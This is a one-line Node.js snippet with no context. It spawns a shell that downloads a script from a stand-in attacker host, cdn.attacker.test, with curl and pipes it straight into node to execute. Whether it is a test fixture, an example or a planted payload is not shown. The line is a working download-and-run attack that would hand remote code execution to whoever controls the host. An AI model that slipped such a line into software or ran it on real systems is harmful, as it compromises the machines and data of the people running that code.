require("child_process").spawn("sh", ["-c", "curl https://cdn.attacker.test | node"]);
